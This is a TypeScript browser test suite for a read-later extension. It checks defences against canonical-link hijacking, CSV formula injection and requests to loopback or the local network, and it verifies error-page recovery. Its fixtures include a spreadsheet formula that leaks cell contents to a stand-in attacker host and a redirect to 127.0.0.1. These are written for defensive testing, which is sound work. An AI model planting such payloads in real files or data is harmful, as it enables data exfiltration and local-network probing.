import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ExtensionBrowser, openLibraryPage, saveScreenshot } from './support/browser';
import type { FixtureServer } from './support/fixture-server';
import { storedArticles, storeRawArticle } from './support/library-db';
import { fixturesDir } from './support/paths';
import { withExtensionBrowser } from './support/suite';

/**
 * Issue 15 in real Chromium with the built extension: bad data in an import, a page that names another
 * site's article as its canonical, fetches that would reach the local network, a page that fails to draw.
 */

const seed = JSON.parse(readFileSync(path.join(fixturesDir, 'seed-news/expected.json'), 'utf8')) as {
  /** Its canonical URL, which the library saves it under. */
  url: string;
  title: string;
};

let browser: ExtensionBrowser;
let server: FixtureServer;

/** An article page whose canonical link names the seed article, on another site. */
function canonicalTrap(canonical: string): string {
  const paragraph =
    'This page was written by someone who would like your saved copy of another site’s article to say ' +
    'what they want it to say instead. It declares that article as its canonical address, hoping the ' +
    'extension files this text under it and replaces what you saved earlier from the real site.';
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Replaced story</title>
<link rel="canonical" href="${canonical}"></head><body><article><h1>Replaced story</h1>
${Array.from({ length: 6 }, () => `<p>${paragraph}</p>`).join('\n')}</article></body></html>`;
}

withExtensionBrowser(
  (started) => {
    ({ browser, server } = started);
  },
  (fixtures) => {
    fixtures.addPage('/canonical-trap/', canonicalTrap(seed.url));
  },
);

const openLibrary = (): Promise<Page> => openLibraryPage(browser);

async function saveFromPopup(url: string): Promise<void> {
  const page = await browser.context.newPage();
  await page.goto(url);
  await browser.clickToolbarButton(page);
  const popup = await browser.openPopupFor(page);
  await popup.waitForSelector('[data-save-state="unsaved"]', { timeout: 15_000 });
  await popup.getByRole('button', { name: 'Save', exact: true }).click();
  await popup.waitForSelector('[data-save-state="saved"]');
  await popup.close();
  await page.close();
}

describe('a page cannot replace another site’s saved article', () => {
  it('saves a page whose canonical points to another site under its own address', async () => {
    await saveFromPopup(server.urlFor('seed-news'));
    // Another registrable domain (news.example.test and attacker.example.test would be one site).
    const trap = `http://attacker.test:${server.port}/canonical-trap/`;
    await saveFromPopup(trap);

    const library = await openLibrary();
    const items = await library.evaluate(storedArticles);
    const seedItem = items.find((item) => item.url === seed.url);
    expect(seedItem?.title).toBe(seed.title);
    expect(seedItem?.words).toBeGreaterThan(200);
    const trapItem = items.find((item) => item.url === trap);
    expect(trapItem?.title).toBe('Replaced story');
    expect(items).toHaveLength(2);
    await saveScreenshot(library, 'hardening-canonical-trap');
    await library.close();
  });
});

describe('an import with bad data beside good rows', () => {
  it('lists every row with a date that can be shown, and the CSV export starts no cell with =', async () => {
    const host = `http://good.example.test:${server.port}`;
    const formula = '=HYPERLINK("http://evil.example/?leak"&A1,"Click me")';
    const rows = [
      ['title', 'url', 'time_added', 'tags', 'status'],
      ['A good row', `${host}/one`, '1700000000', 'news', 'unread'],
      ['Far in the future', `${host}/huge`, '99999999999999', '', 'unread'],
      [formula, `${host}/formula`, '1700000100', '@SUM(1)', 'unread'],
      ['Another good row', `${host}/two`, '1700000200', '', 'archive'],
      ['Third good row', `${host}/three`, '1700000300', '', 'unread'],
      ['Fourth good row', `${host}/four`, '1700000400', '', 'unread'],
      ['Fifth good row', `${host}/five`, '1700000500', '', 'unread'],
    ];
    const library = await openLibrary();
    await library
      .locator('input[type=file]')
      .first()
      .setInputFiles({ name: 'pocket.csv', mimeType: 'text/csv', buffer: Buffer.from(Papa.unparse(rows)) });

    const status = library.locator('[data-testid=library-status]');
    await expect.poll(() => status.innerText(), { timeout: 10_000 }).toMatch(/Imported 7 items/);
    await expect(status.innerText()).resolves.toContain('Dates that could not be right, set to today: 1.');
    // Seven links: the page asks before fetching them.
    const ask = library.locator('[data-testid=import-fetch-ask]');
    await expect(ask.innerText()).resolves.toContain('Articles: 7 · Sites: 1');
    await saveScreenshot(library, 'hardening-import-bad-rows');
    await ask.getByRole('button', { name: 'Not now' }).click();
    await expect(ask.count()).resolves.toBe(0);

    const titles = await library.locator('[role=row][data-row-id] .lib-row__title').allInnerTexts();
    for (const title of ['A good row', 'Far in the future', formula, 'Fifth good row'])
      expect(titles).toContain(title);
    const futureRow = library.locator('[role=row]', { hasText: 'Far in the future' });
    const shown = await futureRow.locator('time').getAttribute('datetime');
    expect(new Date(shown ?? '').getUTCFullYear()).toBe(new Date().getUTCFullYear());
    // Nothing was fetched: the reader said not now.
    await expect(library.locator('[data-testid=fetch-progress]').count()).resolves.toBe(0);

    await library.getByText('Export', { exact: true }).first().click();
    const downloading = library.waitForEvent('download');
    await library.getByRole('button', { name: 'Pocket CSV' }).first().click();
    const download = await downloading;
    const exported = readFileSync((await download.path()) ?? '', 'utf8');
    const cells = Papa.parse<string[]>(exported, { skipEmptyLines: true }).data.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${formula}`);
    expect(cells).toContain("'@SUM(1)");
    await library.close();
  });
});

describe('no automatic request reaches this computer or the local network', () => {
  // A server of our own on the loopback address: what the extension must never reach by itself.
  let local: Server;
  let port = 0;
  const hits: string[] = [];
  beforeAll(async () => {
    local = createServer((request, response) => {
      hits.push(request.url ?? '');
      if (request.url === '/to-local') {
        response.writeHead(302, { location: `http://127.0.0.1:${port}/secret` });
        response.end();
        return;
      }
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end('<html><body><article><h1>Router admin</h1><p>secret</p></article></body></html>');
    });
    await new Promise<void>((resolve) => local.listen(0, '127.0.0.1', resolve));
    port = (local.address() as AddressInfo).port;
  });
  afterAll(() => new Promise<void>((resolve) => local.close(() => resolve())));

  it('refuses a loopback link and a redirect to one, and says why', async () => {
    const csv = [
      'title,url,time_added,tags,status',
      `Redirects home,http://redirect.example.test:${port}/to-local,1700000000,,unread`,
      `Straight home,http://127.0.0.1:${port}/direct,1700000000,,unread`,
    ].join('\n');
    const library = await openLibrary();
    await library
      .locator('input[type=file]')
      .first()
      .setInputFiles({ name: 'pocket.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
    const progress = library.locator('[data-testid=fetch-progress]');
    await expect.poll(() => progress.innerText(), { timeout: 20_000 }).toMatch(/2 of 2/);
    // The public name was asked once; the redirect to 127.0.0.1 and the loopback link never left Chromium.
    expect(hits).toEqual(['/to-local']);
    const items = (await library.evaluate(storedArticles)).filter((item) => item.url.includes(`:${port}/`));
    expect(items.map((item) => item.fetchState)).toEqual(['failed', 'failed']);
    await expect(progress.innerText()).resolves.toMatch(/local network/);
    await saveScreenshot(library, 'hardening-local-network');

    // The extension's own pages are held to the same rule (the studio's image loads, for one).
    const direct = await library.evaluate(
      (url) =>
        fetch(url).then(
          () => 'fetched',
          () => 'blocked',
        ),
      `http://redirect.example.test:${port}/to-local`,
    );
    expect(direct).toBe('blocked');
    expect(hits).toEqual(['/to-local', '/to-local']);
    await library.close();
  });
});

describe('a page that fails to draw', () => {
  it('shows what failed and exports what can be read, instead of a blank page', async () => {
    const library = await openLibrary();
    // A row written by some older or broken version: tags that are not a list.
    await library.evaluate(storeRawArticle, {
      html: '<p>Text</p>',
      id: 'https://broken.example/row',
      row: { title: 'Broken row', tags: 'not a list', savedAt: Date.now() + 1000 },
    });
    await library.reload();
    const errorPage = library.locator('[data-testid=error-page]');
    await errorPage.waitFor({ timeout: 10_000 });
    await expect(errorPage.getByRole('alert').innerText()).resolves.toMatch(/^What failed: /);
    await saveScreenshot(library, 'hardening-error-page');
    const downloading = library.waitForEvent('download');
    await errorPage.getByRole('button', { name: 'Export what can be read (JSON)' }).click();
    const exported = JSON.parse(readFileSync((await (await downloading).path()) ?? '', 'utf8')) as {
      items: Array<{ id: string }>;
    };
    expect(exported.items.map((item) => item.id)).toContain('https://broken.example/row');
    expect(exported.items.length).toBeGreaterThan(5);
    await expect(errorPage.getByRole('status').innerText()).resolves.toMatch(/Articles exported: \d+\./);
    await library.close();
  });
});
